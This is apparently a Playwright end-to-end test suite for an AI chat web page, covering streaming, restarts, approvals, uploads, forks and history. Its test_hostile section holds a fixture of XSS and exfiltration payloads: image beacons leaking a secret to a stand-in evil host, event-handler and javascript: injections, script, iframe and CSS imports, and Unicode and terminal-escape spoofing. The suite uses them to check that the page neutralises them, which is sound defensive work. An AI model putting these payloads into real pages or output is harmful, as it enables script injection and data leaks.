"""The page of a chat in a real browser: from a suggestion to a page that works, through reloads and a restart of the server; what people
decide, stop, queue and take back; and nothing that a model writes leaves the page or runs."""

import re
from typing import Iterator

import pytest
from playwright.sync_api import Locator, Page, expect

from chats import ASKING, Chats, doing, run, write
from model_answers import Answer, Gate, Use
from pages import AWAY, NARROW, WIDE, Console, faults, menu, settle, was_loaded_again
from previewing import PANE
from waiting import eventually

EVIL = "https://evil.example"
#: The classic ways out of a page, and ways to look like something else.
MARKDOWN = f"""
# Hello ![leak]({EVIL}/image.png?secret=1) and <img src="{EVIL}/tag.png" onerror="window.__pwned='img'">

[a link]({EVIL}/path) and [http://localhost/]({EVIL}/lies) and [click](javascript:window.__pwned='link') and <{EVIL}/auto>

<script>window.__pwned = 'script'</script><iframe src="{EVIL}/frame"></iframe><style>@import url({EVIL}/style.css)</style>

[![nested]({EVIL}/nested.png)]({EVIL}/nested) ![data](data:image/svg+xml,<svg onload=window.__pwned=1>) [ref][1]

\x1b[31mred\x1b[0m \x1b]8;;{EVIL}/osc\x07osc\x1b]8;;\x07 gnp.\u202etxt.exe \u2066hidden\u2069 a\u200bb

<a href="{EVIL}" onclick="window.__pwned=1">html</a> <svg onload=window.__pwned=1> <math><mtext></mtext></math>

[1]: {EVIL}/reference "title"
"""
HIDDEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2069]")


@pytest.fixture
def page(console: Console) -> Iterator[Page]:
    console.previews = True
    yield console.page
    console.leave()


@pytest.fixture
def open_chat(chats, console):
    """Opens a chat; it is deleted at the end."""

    def opened(id: str) -> Page:
        page = console.open(f"/chats/{id}")
        expect(log(page)).to_be_visible()
        return page

    return opened


def log(page: Page) -> Locator:
    return page.get_by_role("log", name="Conversation")


def composer(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Message", exact=True)


def tool(page: Page, title: str | re.Pattern) -> Locator:
    return log(page).get_by_role("button", name=title)


def send(page: Page, words: str) -> None:
    composer(page).fill(words)
    page.get_by_role("button", name="Send", exact=True).click()


def says(page: Page, words: str) -> None:
    expect(log(page).get_by_text(words).first).to_be_visible()


def ended(page: Page) -> None:
    expect(page.get_by_role("button", name="Stop", exact=True)).to_have_count(0)


def current(page: Page) -> str:
    return re.search(r"/chats/(chat_\w+)", page.url)[1]


# The whole story.


def test_story_of_the_demo(server, chats, console, page):
    """Suggestion, calls, service, preview; reloads between, and a restart in the middle of it."""
    suggestion = chats.ask("GET", "/models")["suggestions"][0]
    console.open("/chats")
    expect(page.get_by_role("navigation").get_by_role("link", name=re.compile("^Chats")).first).to_be_visible()
    choose_model(page, "demo/demo")
    console.inspect("chats-start")
    page.get_by_role("list", name="Suggestions").get_by_role("button", name=suggestion[:100]).click()
    if composer(page).input_value() == suggestion:
        page.get_by_role("button", name="Send", exact=True).click()
    page.wait_for_url(re.compile(r"/chats/chat_\w{20}"))
    chats.made.append(current(page))
    says(page, suggestion)
    page.reload()
    says(page, suggestion)
    console.expected += [*AWAY, "500", "502", "503", "401"]
    first = log(page).locator("button[aria-expanded]").first
    expect(first).to_be_visible()
    server.stop()
    server.start()
    page.evaluate("window.__mark = true")
    frame = page.frame_locator(PANE)
    expect(page.get_by_role("region", name=re.compile("^Service"))).to_be_visible()
    assert not was_loaded_again(page), "it came back without a reload"
    button = frame.get_by_role("button").first
    expect(button).to_be_visible()
    before = frame.locator("body").inner_text()
    button.click()
    eventually(lambda: frame.locator("body").inner_text() != before, what="the page works")
    ended(page)
    page.reload()
    expect(page.get_by_role("region", name=re.compile("^Service"))).to_be_visible()
    expect(frame.get_by_role("button").first).to_be_visible()
    expect(first).to_be_visible()
    console.inspect("chat-demo")
    assert chats.chat(current(page))["status"] == "idle"


def choose_model(page: Page, id: str) -> None:
    chooser = page.get_by_role("button", name=re.compile("Model")).or_(page.get_by_role("combobox", name="Model")).first
    if id in (chooser.text_content() or ""):
        return
    chooser.click()
    page.get_by_role("option", name=id).click()


def test_region_screenshot(chats, model, console, page, open_chat):
    """A rectangle of the preview becomes a badge in the box, and the model gets the picture."""
    site = "<!doctype html><title>t</title><body style='margin:0;background:#fff'><h1 id=h>Shop</h1><button>Buy</button>"
    serve = Use("sandbox_start_service", {"command": "python3 -m http.server 8000", "port": 8000})
    script = model.script(Answer(calls=[write("index.html", site)]), Answer(calls=[serve]), Answer("It is up."), Answer("I see a heading."))
    id, _ = chats.run_turn(script.prompt)
    open_chat(id)
    card = log(page).get_by_role("button", name="View in pane")
    if not page.get_by_role("region", name=re.compile("^Service")).count():
        card.first.click()
    frame = page.frame_locator(PANE)
    expect(frame.get_by_role("heading", name="Shop")).to_be_visible()
    page.get_by_role("button", name="Screenshot of a region").click()
    box = page.locator(PANE).bounding_box()
    page.mouse.move(box["x"] + 10, box["y"] + 10)
    page.mouse.down()
    page.mouse.move(box["x"] + 210, box["y"] + 110, steps=4)
    page.mouse.up()
    page.get_by_role("button", name=re.compile("^(Ask|Take screenshot)")).first.click()
    badge = page.get_by_role("button", name=re.compile("^Remove "))
    expect(badge).to_be_visible()
    send(page, "What is this?")
    says(page, "I see a heading.")
    assert script.last.conversation.images == 1
    part = next(part for message in chats.messages(id) for part in message["content"] if part["type"] == "screenshot")
    assert part["serviceId"].startswith("svc_") and part["path"] == "/" and abs(part["rect"]["width"] - 200) <= 4, part
    assert part["viewport"]["width"] > 0
    page.get_by_role("button", name=re.compile("Hide the pane")).first.click()
    expect(page.locator(PANE)).to_have_count(0)
    card.first.click()
    expect(frame.get_by_role("heading", name="Shop")).to_be_visible()


# A turn.


def test_turn(chats, model, console, page):
    """Live text, live output, an error with a hint, a diff; the same after a reload in the middle of each."""
    first, second = Gate(), Gate()
    wait = "printf '\\033[31mred\\033[0m one\\n'; while [ ! -e go ]; do sleep 0.02; done; echo two"
    script = model.script(
        Answer(["I **lo", first, "ok**."], [run(wait)], reasoning="Deep thoughts."),
        Answer(calls=[run("echo bad >&2; exit 3")]),
        Answer(calls=[write("notes.txt", "alpha\nbeta\n")]),
        Answer(calls=[Use("sandbox_find_replace", {"path": "notes.txt", "find": "beta", "replace": "gamma"})]),
        Answer(["All ", second, "done."]),
    )
    console.open("/chats")
    choose_model(page, "openai/scripted")
    send(page, f"{script.prompt} please")
    page.wait_for_url(re.compile(r"/chats/chat_"))
    id = current(page)
    chats.made.append(id)
    first.arrive()
    says(page, "lo")
    page.reload()
    says(page, "lo")
    first.release()
    expect(log(page).locator("strong", has_text="look")).to_be_visible()
    expect(log(page).get_by_text("red one")).to_be_visible()
    page.reload()
    expect(log(page).get_by_text("red one")).to_be_visible()
    chats.run(chats.box(id), "touch go")
    row = tool(page, re.compile("^Run printf"))
    failed = tool(page, re.compile("^Run echo bad"))
    expect(failed).to_have_attribute("aria-expanded", "true")
    expect(log(page).get_by_text("exit 3").first).to_be_visible()
    expect(log(page).get_by_text("bad").first).to_be_visible()
    row.click()
    says(page, "two")
    expect(log(page).get_by_text("gamma").first).to_be_visible()
    second.arrive()
    page.reload()
    says(page, "All")
    second.release()
    says(page, "All done.")
    ended(page)
    assert log(page).get_by_text("All done.").count() == 1 and log(page).get_by_text(f"{script.prompt} please").count() == 1
    log(page).get_by_role("button", name=re.compile("Thought")).first.click()
    says(page, "Deep thoughts.")
    console.inspect("chat-turn")


def test_restart_while_it_writes(server, chats, model, console, page, open_chat):
    """Quietly: no banner, no reload; what was broken off is said so."""
    gate = Gate()
    script = model.script(choose=lambda seen: Answer(["Half of ", gate]) if len(script.requests) == 1 else Answer("The whole."))
    id = chats.create(script.prompt, tools=[])["chat"]["id"]
    open_chat(id)
    says(page, "Half of")
    page.evaluate("window.__mark = true")
    console.expected += [*AWAY, "500", "502", "503"]
    server.crash()
    server.start()
    says(page, "The whole.")
    assert not was_loaded_again(page) and log(page).get_by_text("The whole.").count() == 1
    expect(page.get_by_role("alert")).to_have_count(0)


def test_stop(chats, model, console, page, open_chat):
    script = model.script(Answer("I run it.", [run("echo begun; sleep 600")]), Answer("next"))
    id = chats.create(script.prompt)["chat"]["id"]
    open_chat(id)
    says(page, "begun")
    page.get_by_role("button", name="Stop", exact=True).last.click()
    ended(page)
    assert chats.chat(id)["status"] == "idle" and chats.run(chats.box(id), "pgrep -c sleep || true").strip() == "0"
    send(page, "go on")
    says(page, "next")


def test_queue_and_steer(chats, model, console, page, open_chat):
    gate = Gate()
    script = model.script(Answer(["Work ", gate, "done"], [run("true")]), Answer("Steered."), Answer("Queued answer."))
    id = chats.create(script.prompt)["chat"]["id"]
    open_chat(id)
    says(page, "Work")
    send(page, "later please")
    send(page, "never please")
    waiting = page.get_by_role("list", name="Messages that wait").or_(page.get_by_role("region", name="Messages that wait"))
    expect(waiting.get_by_text("later please")).to_be_visible()
    expect(waiting.get_by_text("never please")).to_be_visible()
    page.get_by_role("button", name="Remove from queue").last.click()
    expect(waiting.get_by_text("never please")).to_have_count(0)
    composer(page).fill("rather this")
    page.keyboard.press("Control+Enter")
    eventually(lambda: len([one for one in chats.messages(id) if one["role"] == "user"]) == 2)
    console.inspect("chat-queue")
    gate.release()
    says(page, "Queued answer.")
    asked = [one["content"][0]["text"] for one in chats.messages(id) if one["role"] == "user"]
    assert asked == [script.prompt, "rather this", "later please"]


def test_decisions(chats, model, console, page, open_chat):
    """Allow, deny with a note, always; and a question with options."""
    script = model.script(
        *(Answer(calls=[run(f"echo {number} >> ran")]) for number in range(4)),
        Answer(calls=[Use("ask_user", {"question": "Which colour?", "options": ["red", "blue"]})]),
        Answer("Blue it is."),
    )
    id = chats.create(script.prompt, tools=[*ASKING, {"type": "ask"}])["chat"]["id"]
    open_chat(id)
    ask = lambda number: log(page).get_by_role("region", name=re.compile(f"Waits for you.*echo {number}"))
    expect(ask(0)).to_be_visible()
    console.inspect("chat-approval")
    ask(0).get_by_role("button", name="Allow").click()
    expect(ask(1)).to_be_visible()
    page.reload()
    ask(1).get_by_role("textbox", name="Note for the model").fill("not this one")
    ask(1).get_by_role("button", name="Deny").click()
    expect(ask(2)).to_be_visible()
    ask(2).get_by_role("button", name="Always").click()
    question = log(page).get_by_role("region", name="The model asks")
    expect(question.get_by_text("Which colour?")).to_be_visible()
    question.get_by_role("button", name="blue").click()
    says(page, "Blue it is.")
    assert chats.file(id, "ran") == "0\n2\n3\n" and script.last.conversation.results[-1].text == "blue"
    assert "not this one" in script.last.conversation.results[1].text


# Files.


def drop(page: Page, name: str, content: str) -> None:
    """Drops a file onto the box, as a person does with a mouse."""
    data = page.evaluate_handle(
        "([name, content]) => { const data = new DataTransfer(); data.items.add(new File([content], name, {type: 'text/csv'})); return data; }",
        [name, content],
    )
    for event in ("dragenter", "dragover", "drop"):
        composer(page).dispatch_event(event, {"dataTransfer": data})


def test_uploads(chats, model, console, page):
    script = model.script(*doing(run("cat user-uploads/*"), answer="Read both."))
    console.open("/chats")
    choose_model(page, "openai/scripted")
    drop(page, "dropped.csv", "from the drop")
    expect(page.get_by_role("button", name="Remove dropped.csv")).to_be_visible()
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach files").first.click()
    chooser.value.set_files([{"name": "chosen.txt", "mimeType": "text/plain", "buffer": b"from the chooser"}])
    expect(page.get_by_role("button", name="Remove chosen.txt")).to_be_visible()
    console.inspect("chats-uploads")
    send(page, script.prompt)
    says(page, "Read both.")
    chats.made.append(current(page))
    says(page, "dropped.csv")
    assert "from the drop" in script.last.conversation.results[0].text and "from the chooser" in script.last.conversation.results[0].text


def test_artifacts(chats, model, console, page, open_chat):
    script = model.script(
        *doing(run("printf 'a,b\\n1,2\\n' > table.csv"), Use("sandbox_download_url", {"path": "table.csv"}), answer="There it is."),
    )
    id, _ = chats.run_turn(script.prompt)
    open_chat(id)
    with page.expect_download() as download:
        log(page).get_by_role("link", name="Download table.csv").or_(log(page).get_by_role("button", name="Download table.csv")).first.click()
    assert download.value.path().read_text() == "a,b\n1,2\n"


def test_restore_and_fork(chats, model, console, page, open_chat):
    script = model.script(*doing(write("now", "1"), answer="First."), *doing(write("now", "2"), answer="Second."))
    id, _ = chats.run_turn(f"{script.prompt} one")
    chats.ended(id, chats.say(id, "and two")["id"])
    open_chat(id)
    says(page, "Second.")
    page.get_by_role("button", name="Fork with computer").last.click()
    confirm(page, "Fork")
    page.wait_for_url(lambda url: "/chats/chat_" in url and id not in url)
    fork = current(page)
    chats.made.append(fork)
    says(page, "First.")
    assert chats.chat(fork)["parentId"] == id
    open_chat(id)
    page.get_by_role("button", name="Restore files to here").last.click()
    confirm(page, "Restore")
    expect(log(page).get_by_text("Second.")).to_have_count(0)
    says(page, "First.")
    assert chats.file(id, "now") == "1"


def confirm(page: Page, name: str) -> None:
    """Says yes to a question of the page, if it asks one."""
    settle(page)
    yes = page.get_by_role("alertdialog").or_(page.get_by_role("dialog")).get_by_role("button", name=re.compile(f"^{name}"))
    if yes.count():
        yes.last.click()


def test_files_and_terminal(chats, model, console, page, open_chat):
    script = model.script(*doing(write("notes.txt", "hello notes")))
    id, _ = chats.run_turn(script.prompt)
    open_chat(id)
    for name in ("Files", "Terminal"):
        shown = page.get_by_role("radio", name=re.compile(name)).or_(page.get_by_role("tab", name=name)).or_(page.get_by_role("button", name=name, exact=True)).first
        if not shown.is_visible():
            page.get_by_role("button", name=re.compile("pane", re.I)).first.click()
        shown.click()
        expect(page.get_by_role("region", name=re.compile(f"^{name}"))).to_be_visible()
    page.get_by_role("radio", name="Files").or_(page.get_by_role("tab", name="Files")).first.click()
    expect(page.get_by_role("treeitem", name=re.compile("^notes.txt"))).to_be_visible()


# History.


def test_history(chats, model, console, page):
    """Search, rename and delete; another tab learns of it at once."""
    script = model.script(Answer("About walruses."), Answer("About penguins."))
    ids = [chats.run_turn(script.prompt, tools=[], title=f"Chat of {name}")[0] for name in ("walrus", "penguin")]
    console.open("/chats")
    link = lambda name, tab=page: tab.get_by_role("link", name=re.compile(f"Chat of {name}"))
    expect(link("walrus").first).to_be_visible()
    other = console.new_page()
    console.open("/chats", other)
    expect(link("walrus", other).first).to_be_visible()
    page.bring_to_front()
    page.get_by_role("searchbox", name="Search chats").first.fill("penguins")
    expect(link("penguin").first).to_be_visible()
    expect(link("walrus")).to_have_count(0)
    console.inspect("chats-history")
    page.get_by_role("searchbox", name="Search chats").first.fill("")
    menu(page, page.get_by_role("button", name=re.compile("(Actions|More).*Chat of walrus")).first, "Rename")
    box = page.get_by_role("textbox", name=re.compile("Title|Name|Rename")).last
    box.fill("Chat of seals")
    page.keyboard.press("Enter")
    expect(link("seals", other).first).to_be_visible()
    assert chats.chat(ids[0])["title"] == "Chat of seals"
    menu(page, page.get_by_role("button", name=re.compile("(Actions|More).*Chat of penguin")).first, re.compile("^Delete"))
    confirm(page, "Delete")
    expect(link("penguin", other)).to_have_count(0)
    assert chats.send("GET", f"/chats/{ids[1]}").status == 404
    other.close()


def test_unknown_chat(console, page):
    console.expected += ["404"]
    console.open("/chats/chat_aaaaaaaaaaaaaaaaaaaa")
    expect(page.get_by_role("main").get_by_text("This chat is gone").first).to_be_visible()


def test_agent_and_sandbox_switch(chats, model, console, page):
    agent = chats.ask("POST", "/agents", {"name": "Pirate", "system": "Speak like a pirate-4711."})
    script = model.script(Answer("Arr."))
    try:
        console.open("/chats")
        page.get_by_role("button", name=re.compile("Agent")).or_(page.get_by_role("combobox", name="Agent")).first.click()
        page.get_by_role("option", name="Pirate").click()
        switch = page.get_by_role("switch", name="Sandbox")
        if switch.is_checked():
            switch.locator("xpath=ancestor-or-self::label").first.click()
        expect(switch).not_to_be_checked()
        send(page, script.prompt)
        says(page, "Arr.")
        chats.made.append(current(page))
        assert "pirate-4711" in script.last.conversation.system and "sandbox_run_command" not in script.last.conversation.tools
    finally:
        chats.send("DELETE", f"/agents/{agent['id']}")


def test_phone(chats, model, console, page, open_chat):
    """360 px: everything can be reached, nothing scrolls sideways."""
    script = model.script(Answer(["W" * 400, "\n\n```\n", "x" * 400, "\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"], [run("echo " + "y" * 500)]), Answer("Small."), Answer("Yes."))
    id, _ = chats.run_turn(script.prompt)
    page.set_viewport_size(NARROW)
    try:
        open_chat(id)
        says(page, "Small.")
        sideways = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert sideways <= 0, f"it scrolls sideways by {sideways} px"
        send(page, "from a phone")
        says(page, "Yes.")
        for name in ("Send", "Attach files"):
            box = page.get_by_role("button", name=name, exact=True).first.bounding_box()
            assert box is None or box["x"] + box["width"] <= NARROW["width"], (name, box)
    finally:
        page.set_viewport_size(WIDE)


# Hostile.


@pytest.mark.parametrize("where", ["answer", "thought", "person", "output", "title", "question", "file"])
def test_hostile(chats, model, console, page, open_chat, where):
    """Wherever it stands: nothing is loaded from elsewhere, nothing runs, nothing invisible is left."""
    command = {"command": f"cat <<'EOP'\n{MARKDOWN}\nEOP"}
    steps = {
        "answer": [Answer(MARKDOWN)],
        "thought": [Answer("ok", reasoning=MARKDOWN)],
        "person": [Answer("ok")],
        "output": [Answer(calls=[Use("sandbox_run_command", command)]), Answer("ok")],
        "title": [Answer("ok")],
        "question": [Answer(calls=[Use("ask_user", {"question": MARKDOWN, "options": [MARKDOWN]})])],
        "file": [Answer(calls=[write("artifacts/evil.md", MARKDOWN), write("artifacts/evil.html", MARKDOWN)]), Answer("ok")],
    }[where]
    script = model.script(*steps)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    title = {"title": re.sub(r"[\x00-\x1f]", " ", MARKDOWN)[:200]} if where == "title" else {}
    made = chats.create(f"{script.prompt} {MARKDOWN if where == 'person' else ''}", **title)
    id = made["chat"]["id"]
    eventually(lambda: chats.chat(id)["status"] in ("idle", "waiting"))
    open_chat(id)
    closed = log(page).locator("button[aria-expanded=false]")
    for _ in range(10):
        if closed.count():
            closed.first.click()
    if where == "title":
        console.open("/chats")
        expect(page.get_by_text("Hello").first).to_be_visible()
    elif where != "file":
        says(page, "Hello")
    settle(page)
    elsewhere = [url for url in requests if "evil" in url and "/attachments/" not in url]
    assert not elsewhere, elsewhere
    # The page's own mark of an empty line in a diff.
    seen = re.sub("(?m)^\u200b$", "", page.locator("body").inner_text())
    hidden = HIDDEN.search(seen)
    assert not hidden, f"invisible: {seen[max(hidden.start() - 60, 0) : hidden.end() + 20]!r}"
    assert page.evaluate("window.__pwned ?? null") is None
    assert not log(page).locator("img[src^='http'], iframe, script, style, object, embed, svg[onload]").count() or where == "title"
    for link in log(page).get_by_role("link").all() if where != "title" else []:
        target = link.get_attribute("href") or ""
        assert not target.lower().startswith(("javascript:", "data:")), target
        if target.startswith(EVIL):
            assert "evil.example" in (link.text_content() or "") or "evil.example" in (link.locator("xpath=..").inner_text()), "the true host is seen"
            assert "noopener" in (link.get_attribute("rel") or "") and "noreferrer" in (link.get_attribute("rel") or "")
    if where == "answer":
        console.inspect("chat-hostile")
    assert not faults_if_axe(page)


def faults_if_axe(page: Page) -> list[str]:
    return faults(page) if page.evaluate("'axe' in window") else []


def test_chats_of_a_person_stay_theirs(server, chats: Chats, console, page):
    """Nothing of a chat is kept in the browser after signing out but drafts of the box."""
    script_free = chats.create(title="private-title-4711")["chat"]["id"]
    console.open(f"/chats/{script_free}")
    expect(composer(page)).to_be_visible()
    stored = page.evaluate("JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage})")
    assert "private-title-4711" not in stored and server.key not in stored
